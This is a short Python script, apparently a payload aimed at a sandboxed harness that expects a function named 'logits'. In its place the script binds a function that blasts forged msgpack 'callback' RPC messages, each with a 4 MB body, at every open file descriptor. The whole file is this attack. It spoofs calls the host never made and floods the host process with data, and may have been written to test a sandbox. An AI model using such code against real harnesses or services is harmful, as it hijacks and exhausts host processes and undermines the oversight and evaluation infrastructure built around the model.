# Calls functions that were never passed, with bodies of megabytes, without waiting.
import gc, os, socket, struct
import msgspec
def send(message, body=b""):
    header = msgspec.msgpack.encode(message)
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack("<IQ", len(header), len(body)) + header + body)
        except OSError:
            pass

def forged(*_):
    for number in range(30):
        send(["callback", [["<f8", [500000], "C"]], number - 3, [1, [5, 0]], [2]], bytes(4000000))
logits = forged
